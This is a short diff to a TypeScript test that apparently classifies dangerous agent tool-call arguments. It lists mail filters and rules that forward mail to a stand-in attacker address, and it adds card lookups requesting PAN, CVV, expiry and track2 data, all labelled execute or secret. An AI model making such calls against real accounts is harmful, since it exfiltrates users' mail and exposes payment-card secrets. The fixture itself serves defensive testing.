@@ -115,6 +115,8 @@ const dangerous: Row[] = [
   ['gmail', 'create_filter', { criteria: {}, action: { forward: 'eve@evil.example' } }, 'execute'],
   ['outlook', 'create_rule', { actions: { forwardTo: ['eve@evil.example'] } }, 'execute'],
   ['outlook', 'update_mail_rule', { redirect_to: 'eve@evil.example' }, 'execute'],
+  ['cards', 'get_card', { card_id: 'c-1', fields: ['pan', 'cvv', 'expiry'] }, 'secret'],
+  ['cards', 'get_card', { card_id: 'c-1', include: 'status, track2_data' }, 'secret'],
 ];
 
 describe('what arguments reach', () => {
